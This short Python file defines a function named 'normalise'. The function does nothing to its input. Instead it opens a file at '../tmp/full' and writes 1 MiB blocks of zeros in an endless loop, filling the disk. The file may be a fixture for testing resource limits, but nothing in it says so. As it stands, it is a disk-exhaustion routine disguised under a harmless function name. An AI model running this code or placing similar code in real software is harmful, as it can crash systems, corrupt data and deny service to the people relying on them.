import os


def normalise(x):
    file = os.open("../tmp/full", os.O_CREAT | os.O_WRONLY)
    while True:
        os.write(file, bytes(2**20))
